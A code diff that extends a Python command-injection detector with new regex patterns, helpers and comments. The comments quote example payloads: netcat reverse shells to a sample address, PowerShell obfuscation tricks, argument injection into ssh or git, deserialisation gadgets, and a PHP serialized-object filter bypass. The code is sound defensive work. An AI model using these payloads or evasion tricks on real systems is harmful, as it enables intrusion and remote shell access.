@@ -59,7 +59,7 @@ DISTINCT_COMMANDS = frozenset(
     setcap getcap regedit pip2 pip3 bsdtar lwp-download lwp-request lwp-mirror
     netsh nltest dsquery dsget fsutil auditpol cmdkey gpresult driverquery getmac wevtutil esentutl
     ntdsutil diskpart mountvol qprocess msbuild makecab lsb_release ping6 lspci waitfor unbuffer stdbuf setsid
-    ionice taskset chrt run-parts gwmi gcim""".split()
+    ionice taskset chrt run-parts gwmi gcim gci usleep expr whereis""".split()
 )
 # Windows' desktop programs that a proof of concept starts ("& calc", "| notepad.exe"): ordinary
 # words too ("pre-calc"), so they are in `COMMON_WORDS`; by their ".exe" name they are the program
@@ -81,6 +81,8 @@ _SEPARATOR = re.compile(r";|\|\|?|&&?|\n|\r|`|\$\(|\(|\{|<\(|>\(|t(?<=\bt)hen\b|
 _WORD = re.compile(r"[\s]{0,16}((?:[a-z0-9_./\\\-'\"$@*?!{}\[\],`()^]|\$\{[a-z0-9_#@!:]{0,16}\}){1,60})")
 _STRONG = linear(
     r"\$\{?ifs\b|\$\{?ifs\}|/dev/(?:tcp|udp)/|\bbash[\s]{1,8}-[ic]\b|\bsh[\s]{1,8}-[ic]\b|\bnc(?:at)?[\s]{1,8}(?:-[a-z]{1,4}[\s]{1,8}){0,4}-e\b"
+    # netcat's other program option, handed a shell ("nc -c sh 10.0.0.1 4444", "ncat -c /bin/bash")
+    r"|\b(?:nc|ncat|netcat)[\s]{1,8}(?:-[a-z]{1,4}[\s]{1,8}){0,4}-c[\s]{1,8}['\"]?(?:/bin/)?(?:ba|z|k|da)?sh\b"
     # netcat's reverse shell with the program after the address ("nc 10.0.0.1 4444 -e sh",
     # "ncat -v x.example 443 -c bash"): a host, a port, then the program it hands the socket to
     r"|\b(?:nc|ncat|netcat)(?:\.exe)?[\s]{1,8}(?:-[a-z]{1,4}[\s]{1,8}){0,4}[a-z0-9.:\-]{1,64}[\s]{1,8}[0-9]{1,5}[\s]{1,8}-[ec][\s]{1,8}[a-z/\\]"
@@ -153,9 +155,10 @@ _STRONG = linear(
     # "net start" (the running services listed) closing the value
     r"|(?:[;&|\n]|%0a)[\s]{0,4}net1?[\s]{1,8}start[\s]{0,8}(?:$|[;&|#'\"])"
     # PowerShell cmdlets (Verb-Noun) that read the host, after a separator: "| Get-Process", "; Get-ChildItem c:\\"
-    r"|(?:[;&|\n]|%0a)[\s]{0,4}(?:get|set|new|remove|start|stop|invoke|add|test|resolve|copy|move|out)-(?:process|childitem|content|itemproperty"
+    r"|(?:[;&|\n]|%0a|\$\()[\s]{0,4}(?:get|set|new|remove|start|stop|invoke|add|test|resolve|copy|move|out)-(?:process|childitem|content|itemproperty"
     r"|service|wmiobject|ciminstance|localuser|localgroup(?:member)?|acl|executionpolicy|psdrive|hotfix|netipaddress"
-    r"|nettcpconnection|mppreference|computerinfo|aduser|scheduledtask|sleep|connection|netconnection|dnsname|item|restmethod)\b"
+    r"|nettcpconnection|mppreference|computerinfo|aduser|scheduledtask|sleep|connection|netconnection|dnsname|item|restmethod"
+    r"|file|type|job|wmimethod|cimmethod)\b"
     # a command that calls itself through a pipe in the background: the fork bomb, any name
     r"|\(\)[\s]{0,4}\{[\s]{0,4}[a-z_:][a-z0-9_]{0,20}[\s]{0,4}\|[\s]{0,4}[a-z_:][a-z0-9_]{0,20}[\s]{0,4}&[\s]{0,4}\}"
     # cmd.exe reads "," ";" "=" as blanks and needs none after "cmd.exe": "cmd,/c,whoami", "cmd.exe/c id"
@@ -164,18 +167,22 @@ _STRONG = linear(
     # pieces: quoted parts joined ("&('i'+'ex')"), letters of an automatic variable
     # (". ($pshome[4]+$pshome[30]+'x')", "&($env:comspec[4,15,25]-join'')"), a "-join"
     r"|(?:^|[;|\n{(])[\s]{0,4}[&.][\s]{0,4}\([\s]{0,4}(?:['\"][a-z\-]{0,20}['\"][\s]{0,4}\+|\$[a-z_:]{2,30}\[[\s]{0,4}[0-9]|[^()]{1,60}-join\b|['\"]\{[0-9]\})"
+    # the call operator on a command looked up by a wildcard ("&(gcm *ke-e*) 'whoami'", ". (Get-Command i?x)")
+    r"|[&.][\s]{0,4}\([\s]{0,4}(?:gcm|get-command|gal|get-alias)[\s]{1,4}[^()]{0,40}[*?]"
     # an alias made for the expression runner ("sal x iex; x whoami", "Set-Alias run Invoke-Expression")
     r"|\b(?:sal|set-alias|nal|new-alias)[\s]{1,8}[a-z0-9_\-]{1,20}[\s]{1,8}(?:iex|invoke-expression)\b"
     r"|\$(?:pshome|shellid|env:comspec|verbosepreference(?:\.tostring\(\))?)\[[\s]{0,4}[0-9]{1,2}[\s]{0,4}[,\]]"
     # the environment drive listed ("gci env:", "ls env:*"), the AMSI bypass's reflection ("[Ref].Assembly"),
     # a socket or web client built ("New-Object System.Net.Sockets.TCPClient(...)")
     r"|(?:^|[;|&\n(])[\s]{0,4}(?:gci|ls|dir|get-childitem|gc|get-content|type)[\s]{1,4}env:"
+    # an environment variable printed by PowerShell where a command begins, ending the value ("& $env:computername")
+    r"|(?:[;&|\n]|%0a)[\s]{0,4}\$env:[a-z_][a-z0-9_]{1,30}[\s]{0,4}$"
     r"|\[ref\]\.assembly\b|\bnew-object[\s]{1,8}(?:-typename[\s]{1,8})?(?:system\.)?net\.(?:webclient|sockets\.(?:tcpclient|udpclient|tcplistener))\b"
     # an editor or pager told to run a shell command: "vi -c ':!id'", "vim -c '!sh'"
     r"|\b(?:vim?|nvim|ex)[\s]{1,8}-c[\s]{1,8}['\"]?:?!"
     # argument injection: an option that makes ssh, git, tar or rsync run a program
     # ("-oProxyCommand=id", "--upload-pack=touch /tmp/x", "--checkpoint-action=exec=sh x.sh")
-    r"|(?:^|[\s'\"])-o[\s]{0,4}['\"]?(?:proxycommand|localcommand)[\s]{0,4}="
+    r"|(?:^|[\s'\"`])-o[\s]{0,4}['\"]?(?:proxycommand|localcommand)[\s]{0,4}="
     r"|(?:^|[\s'\"])--(?:upload-pack|receive-pack|checkpoint-action|use-compress-program|to-command|rsh-command|rsync-path|info-script|new-volume-script)[\s]{0,4}="
     r"|(?:^|[\s'\"])-c[\s]{0,4}['\"]?core\.(?:sshcommand|pager|editor|fsmonitor|hookspath|gitproxy)[\s]{0,4}="
     # the shell fed a here-string ("$0<<<$'\\x69\\x64'", "bash<<<id"), a command spelled in ANSI-C escapes
@@ -231,7 +238,14 @@ _CODE = linear(
     r"require_once|file_put_contents|file_get_contents|highlight_file|show_source|"
     r"phpinfo|base64_decode|gzinflate|gzuncompress|str_rot13|zlib_decode|move_uploaded_file|"
     r"spawnsync|execsync|execfile)[\s]{0,8}\("
-    r"|\b(?:system|include|require|exec|assert|spawn|fork|popen|fopen|readfile|unserialize)[\s]{0,4}\([\s]{0,4}['\"$`]"
+    r"|\b(?:system|include|require|exec|assert|spawn|fork|popen|fopen|readfile|unserialize)[\s]{0,4}\([\s]{0,4}(?:['\"$`]|\[[\s]{0,4}['\"])"
+    # Ruby's backtick method called by name ("Kernel.`('id')"), a Function built by reflection
+    # ("Reflect.construct(Function, ['return process'])"), Python's builtins indexed ("__builtins__['eval']")
+    r"|\bkernel\.`|\breflect\.construct[\s]{0,4}\([\s]{0,4}function\b|\b__builtins__[\s]{0,4}(?:\[[\s]{0,4}['\"]|\.[\s]{0,4}__)"
+    # Python's importer looked up by name ("vars(__builtins__)['__import__']"), Deno's and Bun's
+    # process runners, Ruby's and Perl's runners called without parentheses ("system 'id'")
+    r"|\[[\s]{0,4}['\"]__import__['\"][\s]{0,4}\]|\bdeno\.(?:run|command)[\s]{0,4}\(|\bbun\.spawn(?:sync)?[\s]{0,4}\("
+    r"|\b(?:system|exec|spawn)[\s]{1,4}['\"](?:/[a-z]|(?:id|whoami|uname|cat|ls|pwd|curl|wget|nc|bash|sh|ping|sleep|nslookup)\b)[^'\"\n]{0,60}['\"][\s]{0,4}(?:$|[;)\n])"
     r"|\$_(?:get|post|request|cookie|server|files|env|session)\b|child_process|process\.(?:env|mainmodule|binding|exit|kill)"
     r"|require[\s]{0,4}\([\s]{0,4}['\"`](?:child_process|fs|net|os|vm)|global\.process|\bprocess\[|\.constructor\.constructor"
     r"|__import__[\s]{0,4}\(|\.__(?:subclasses|globals|builtins|bases|mro)__\b|\bos\.(?:system|popen|exec[a-z]{0,3})[\s]{0,4}\(|subprocess\.|runtime\.getruntime|\bgetruntime\(\)"
@@ -242,7 +256,9 @@ _CODE = linear(
     r"|\bprocess\.start[\s]{0,4}\([\s]{0,4}['\"]"
     r"|@\{[\s]{0,8}\[|_\$\$nd_func\$\$_|\[[/\\]?php\]|\{/?php\}"
     r"|\$[a-z_][a-z0-9_]{0,20}(?:\[[^\]\s]{0,20}\]){0,3}[\s]{0,4}\([^)]{0,40}\)[\s]{0,4}(?:;|$)|\$\{[^}\s]{1,30}\}[\s]{0,4}\("
-    r"|\b[oc]:[0-9]{1,4}:\"[a-z_\\][a-z0-9_\\]{0,64}\":[0-9]{1,6}:\{"  # PHP serialized objects ("O:4:...", "C:11:\"ArrayObject\"...")
+    # PHP serialized objects ("O:4:...", "C:11:\"ArrayObject\"...", and "O:+4:" whose sign old
+    # unserialize() accepts where a filter looks for "O:<digit>")
+    r"|\b[oc]:\+?[0-9]{1,4}:\"[a-z_\\][a-z0-9_\\]{0,64}\":[0-9]{1,6}:\{"
     # a pickle's global opcode loading a command runner ("cos\\nsystem\\n", "cposix\\nsystem\\n", "csubprocess\\ncheck_output")
     r"|(?:^|[\n(.])c(?:os|posix|nt|subprocess|builtins|__builtin__|commands|pty)\n(?:system|popen|exec[a-z]{0,3}|eval|spawn[a-z]{0,3}|check_output|check_call|call|getoutput|run)\n"
     # an H2 database URL that runs a script or Java code when connected ("jdbc:h2:mem:;INIT=RUNSCRIPT FROM '...'")
@@ -255,6 +271,13 @@ _CODE = linear(
     r"|(?:^|[;{(\s])while\((?:[^()]{0,30}|\([^()]{0,20}\)){1,2}\)[\s]{0,4}(?:;|\{|\)|$)"
     r"|(?:^|[;{(])[\s]{0,4}while[\s]{1,4}\([\s]{0,4}(?:!|true|1|[+-]?infinity)[^()]{0,12}\)[\s]{0,4}(?:;|\{)"
     r"|\bconsole[\s]{0,4}(?:\.[\s]{0,4}(?:log|info|warn|error|debug|trace|dir|table)|\[[\s]{0,4}['\"][a-z]{2,10}['\"][\s]{0,4}\])[\s]{0,4}(?:\(|\.call\b|\.apply\b)"
+    # Ruby's process helpers and dynamic dispatch to a command runner ("Open3.capture2('id')",
+    # "send(:system, 'id')"), deserialisers of native objects handed data ("Marshal.load(Base64...)",
+    # "pickle.loads(b64decode(...))"), PHP reflection calling a command runner
+    r"|\bopen3\.(?:capture[23]e?|popen[23]e?|pipeline[a-z_]{0,6})[\s]{0,4}[(\s]"
+    r"|\b(?:send|public_send|__send__)[\s]{0,4}\(?[\s]{0,4}:(?:system|exec|spawn|eval|syscall|instance_eval|class_eval|`)"
+    r"|\b(?:marshal\.load|pickle\.loads?|cpickle\.loads?|_pickle\.loads?|dill\.loads?|jsonpickle\.decode)[\s]{0,4}\([\s]{0,4}[a-z0-9_.]{0,30}(?:base64|b64|decode|unhexlify|fromhex|['\"(])"
+    r"|\breflectionfunction[\s]{0,4}\([\s]{0,4}['\"](?:system|exec|passthru|shell_exec|popen|proc_open|assert|eval|pcntl_exec)['\"]"
     r"|\bmodule\.exports[\s]{0,4}=|\brequire[\s]{0,4}\[|\$[0-9a-z]{1,4}:constructor:constructor|\$[0-9a-z]{1,4}:[a-z_]{1,20}:prototype"
 )
 # Groovy runs a string as a command line: "'id'.execute()", "\"cat /etc/passwd\".execute().text"
@@ -284,13 +307,15 @@ _WORD_START = re.compile(r"[a-z/.\\$'\"{~]|\^[a-z]")
 _STRONG_OR_CODE = linear("(" + _STRONG.pattern + ")|(?:" + _CODE.pattern + ")")
 # a command word's only "argument" a number, and words after it to the value's end: prose that
 # names a product or a line ("ls 460 lexus", "sh 12 bus route"), no command line
+# the value's rest after its first word: "&" and plain words ("touch & go", "ls & ms")
+_AMP_WORDS = re.compile(r"[\s]{1,4}&[\s]{1,4}([a-z]{2,20})(?:[\s]{1,4}[a-z]{2,20}){0,3}[\s]{0,4}")
 _NUMBER_THEN_WORDS = re.compile(r"[\s]{1,4}[0-9]{1,6}(?:[\s]{1,4}[a-z]{2,20}){1,6}[\s]{0,4}")
 _PROSE_FOLLOW = re.compile(r"[\s]{1,4}[a-z]{2,20}[\s]{1,4}[a-z]{2,20}[\s]{1,4}[a-z]{2,20}")
 _TRIGGER = linear(r"[;|&`$\n\r(){}<>?*\[]|module\.exports|system32|syswow64|sysnative|/bin|/usr|/dev|/tmp|%comspec|\bfor\b|\bif\b|\bcmd\b|powershell|invoke-|iex|wget|curl|python|perl|ruby|php|chmod|\brm\b|child_process|process|__import__|\bos\.|subprocess|runtime|\bo:|\ba:")
 _ARG_LIKE = re.compile(
-    r"[\s]{1,8}(?:[a-z]{2,8}://|-{1,2}[a-z0-9]|/|%[a-z_][a-z0-9_]{1,30}%|\.{1,2}/|~|\$|[a-z]:\\|\\\\[a-z0-9]|>|<|\||;|&|'|\"|\*|[0-9]{1,6}(?:$|[\s;|&#'\"])"
+    r"[\s]{1,8}(?:[a-z]{2,8}://|-{1,2}[a-z0-9]|/|%[a-z_][a-z0-9_]{1,30}%|nul(?:$|[\s>])|\.{1,2}/|~|\$|[a-z]:\\|\\\\[a-z0-9]|>|<|\||;|&|'|\"|\*|[0-9]{1,6}(?:$|[\s;|&#'\"])"
     r"|[0-9]>(?:&[0-9]|/)"  # a descriptor redirection: "id 2>&1", "ls 2>/dev/null"
-    r"|[a-z0-9\-]{1,63}\.[a-z0-9\-]{1,63}(?:\.[a-z0-9\-]{1,63}){0,4}(?:$|[\s;|&:/])"  # a host or file name
+    r"|[a-z0-9\-]{1,63}\.[a-z0-9\-]{1,63}(?:\.[a-z0-9\-]{1,63}){0,4}(?:$|[\s;|&:/#])"  # a host or file name (a comment may follow)
     r"|[a-z0-9_.\-]{1,32}@[a-z0-9\-]{1,63}(?:\.[a-z0-9\-]{1,63}){0,4}(?:$|[\s;|&:])"  # user@host
     r"|\.(?:env|htaccess|htpasswd|bash_history|bashrc|profile|ssh/|git/|aws/|npmrc|netrc|pgpass|docker/)(?:$|[\s;|&]))"  # a dotfile
 )
@@ -409,10 +434,12 @@ def scan(text: str) -> list[Hit]:
         if glob is not None:
             keep(0.9, "cmdi.glob-path", glob[0], glob[1])
     if (best is None or best.score < 0.9) and "{" in text:
-        brace = _BRACE.search(text)
-        if brace is not None and any(
-            _command_name(part) in DISTINCT_COMMANDS for part in brace.group(0)[1:-1].split(",")[:3] if part):
-            keep(0.92, "cmdi.brace-expansion", brace.start(), brace.end())
+        for count, brace in enumerate(_BRACE.finditer(text)):
+            if count >= 8:
+                break
+            if _brace_command(brace.group(0)[1:-1].split(",")):
+                keep(0.92, "cmdi.brace-expansion", brace.start(), brace.end())
+                break
     if (best is None or best.score < 0.9) and "{" in text and "," in text:
         spelled = _word_brace(text)
         if spelled is not None:
@@ -457,6 +484,25 @@ def scan(text: str) -> list[Hit]:
     if best is not None:
         hits.append(best)
     return hits
+
+
+# an argument in a brace expansion's list: an option, a path, an address, a variable, a quoted word
+_BRACE_ARGUMENT = re.compile(r"[\-/~.$'\"\\<>]|[a-z0-9\-]{1,63}\.[a-z0-9]")
+
+
+def _brace_command(parts: list[str]) -> bool:
+    """``{cat,/etc/passwd}``, ``{ls,-la}``, ``{whoami}``-like lists: a command among the first
+    three words, an argument after it unless the command is a name no word shares ("{cat,dog}",
+    "{find,sort}" are lists of words)."""
+    for i, part in enumerate(parts[:3]):
+        if not part:
+            continue
+        name = _command_name(part)
+        if name not in DISTINCT_COMMANDS:
+            continue
+        if name not in COMMON_WORDS or any(_BRACE_ARGUMENT.match(arg) for arg in parts[i + 1 :] if arg):
+            return True
+    return False
 
 
 def _word_brace(text: str) -> tuple[int, int] | None:
@@ -631,6 +677,8 @@ _NAMED_IN_PROSE = frozenset(
     redis-cli mongo mongosh expect tree sort more less file finger""".split()
 )
 # a version number after a tool's name ("python 3", "php 8.2", "java 17 download")
+# a tool asked for its version or usage, nothing after: "-v", "--version", "-version", "--help"
+_VERSION_QUERY = re.compile(r"[\s]{1,4}(?:-v|-V|--version|-version|-h|--help|-help|/\?)[\s]{0,4}")
 _VERSION_ARG = re.compile(r"[\s]{1,8}v?[0-9]{1,4}(?:\.[0-9]{1,4}){0,3}(?:$|[\s,])")
 # developer tools whose command lines people paste into search boxes ("docker run -it ubuntu bash")
 _DEV_TOOLS = frozenset({"docker", "podman", "kubectl", "git", "npm", "pip", "pip3", "pipx", "python", "python3",
@@ -656,6 +704,9 @@ _WINDOWS_PATH_ARGUMENT = re.compile(r"(?:/[a-z][\s]{1,4}){0,3}['\"]?(?:[a-z]:\\|
 _PATH_ARGUMENT = re.compile(r"(?:-{1,2}[a-z]{1,12}[\s]{1,4}){0,3}(?:(?:/[a-z0-9_.\\\-]{1,40}){2}|~/|\.\./)")
 
 _BIN_DIRS = ("/bin/", "/usr/bin/", "/sbin/", "/usr/sbin/", "/usr/local/bin/", "/usr/local/sbin/")
+# a program by its absolute Windows path, its last segment the name (".exe" optional): "c:\\windows\\system32\\whoami"
+_WINDOWS_PROGRAM = re.compile(r"[\s]{0,4}['\"]?[a-z]:[\\/](?:[a-z0-9_ .()\-]{1,40}[\\/]){1,8}([a-z0-9_\-]{2,40})(?:\.exe)?['\"]?(?=$|[\s;&|'\"])")
+_WINDOWS_PATH_SEPARATORS = frozenset({";", "&", "&&", "|", "||", "\n", "%0a"})
 
 
 def _starts_with_command(text: str) -> bool:
@@ -793,6 +844,8 @@ def _echo_marker(text: str, pos: int, separator: str, lead: str, rest: str) -> b
     return glued_left or glued_right  # "|", "||", "&&"
 
 
+# a User-Agent's product token after a blank: "mozilla/5.0", "curl/7.68.0"
+_PRODUCT_TOKEN = re.compile(r"[\s]{1,4}[a-z][a-z0-9._\-]{0,40}/[0-9][a-z0-9._+\-]{0,30}(?:$|[\s])")
 # the opening of a User-Agent's comment: "mozilla/5.0 (", "dalvik/2.1.0 (" (a product and its version)
 _PRODUCT_COMMENT = re.compile(r"[a-z][a-z0-9._\-]{0,40}/[0-9][a-z0-9._+\-]{0,30} \($")
 
@@ -824,10 +877,20 @@ def _after_separator(text: str) -> tuple[float, str, int, int] | None:
 def _command_at(
     text: str, pos: int, separator: str = "", at_start: bool = False
 ) -> tuple[float, str, int, int] | None:
+    if separator in _WINDOWS_PATH_SEPARATORS and ":" in text[pos : pos + 8]:
+        program = _WINDOWS_PROGRAM.match(text, pos)
+        if program is not None and _program_no_prose_names(program.group(1)):
+            # "&c:\\windows\\system32\\whoami": a program by its absolute Windows path (no ".exe"
+            # needed), a name no prose uses
+            return (0.9, "cmdi.binary-path", pos, program.end())
     m = _WORD.match(text, pos)
     if m is None:
         return None
     raw = m.group(1)
+    if "\\/" in raw:
+        raw = raw.replace("\\/", "/")  # ";\\/usr\\/bin\\/id": the shell drops the backslash before "/" (JSON's escape)
+        if not raw.startswith("/"):
+            return None
     # a separator's word ends at the next separator-ish character
     masked = raw.replace("$()", "\x01\x01\x01").replace("``", "\x01\x01")  # empty substitutions hide nothing
     for stop in (";", "|", "&", "`", ")", "\n"):
@@ -843,6 +906,8 @@ def _command_at(
     if raw[:1] == "." and not raw.startswith(("./", "../")):
         return None  # ".net 4.8", ".env": a dotted name, not a command
     name = _command_name(raw)
+    if raw[-1:] == "." and raw[:-1] == name and name in COMMON_WORDS:
+        return None  # "Vol. 2 | Greatest Hits", "Ver. 1.2": an abbreviation's period, not a command
     if separator in ("(", "{") and text[: pos - 1].rstrip()[-1:] in (";", "|", "&"):
         # "; (id)", ";{ id; }": a subshell or a command group where a command begins, read like
         # the separator before it (a "(" or "{" in prose or code follows a word)
@@ -905,7 +970,9 @@ def _command_at(
         after = _WORDS.match(rest.lstrip())
         args = after is not None and after.group(0) in DISTINCT_COMMANDS and after.group(0) not in ("eval", "exec")
     ends = (not rest.strip() or rest.lstrip()[:1] in (";", "|", "&", "#", "`", ")", "'", '"')
-            or rest.startswith(("\\n", "%0a", "%0d")))  # ";id\\n", "id%0a": a newline, escaped or encoded
+            or rest.startswith(("\\n", "%0a", "%0d"))  # ";id\\n", "id%0a": a newline, escaped or encoded
+            # "x\nwhoami\ny": a line of its own holding a program no prose names
+            or (rest[:1] in ("\n", "\r") and _program_no_prose_names(name)))
     prose = _PROSE_FOLLOW.match(rest) is not None and not args
     if (separator == ";" and not args and rest.lstrip()[:1] in (";", ")")
             and _in_product_comment(text, pos - len(separator))):
@@ -930,6 +997,13 @@ def _command_at(
                 not rest.strip() or rest.lstrip()[:1] in (";", "|", "&")):
             # the value opens with a separator and a command ("& ver", ";echo vulnerable", "&set"): it
             # ends whatever command it was pasted into; ordinary values do not start with one
+            return (0.85, "cmdi.opening-separator", pos, end)
+        if (separator in (";", "&", "|", "&&", "||") and not lead and name in _BARE_AMP_COMMANDS and raw == name
+                and _PRODUCT_TOKEN.match(rest) is not None
+                and text.split("(", 1)[0].count(separator[0]) == len(separator)):
+            # ";id Mozilla/5.0 (...)", "& dir curl/7.68.0": the value's one separator (a product
+            # comment's aside) opens it, before a command of the short probe set, and the header's
+            # own product token follows
             return (0.85, "cmdi.opening-separator", pos, end)
         if separator == "&" and not args and rest.strip() == "&" and pos >= 2 and text[pos - 2].isalnum():
             return (0.85, "cmdi.background-command", pos, end)  # "a&id&": run in the background, value ends
@@ -987,6 +1061,13 @@ def _command_at(
             args = True  # "ansible all -m ping", "whoami;x", "whoami|" (the application appends the rest)
         if args and _NUMBER_THEN_WORDS.fullmatch(rest) is not None:
             return None  # "ls 460 lexus", "sh 12 bus route": a model number or a route, then words
+        if args and rest.lstrip()[:1] == "&" and (name in COMMON_WORDS or name in _ENGLISH_COMMANDS or len(name) <= 2):
+            joined = _AMP_WORDS.fullmatch(rest)
+            if joined is not None and joined.group(1) not in _COMMAND_WORDS:
+                return None  # "touch & go", "Ls & Ms": two words joined by "&", neither a program only (not "whoami & go")
+        if (args and (name in _NAMED_IN_PROSE or name in _DEV_TOOLS) and raw == name
+                and _VERSION_QUERY.fullmatch(rest) is not None):
+            return None  # "perl -v", "python --version", "java -version": a developer's question, not a command
         return (0.85, "cmdi.command", pos, end) if args else None  # a lone word is not a command line
     if not (args or ends or obfuscated):
         if (separator in (";", "|", "||", "&&", "&") and name not in _NAMED_IN_PROSE and name not in _ENGLISH_COMMANDS
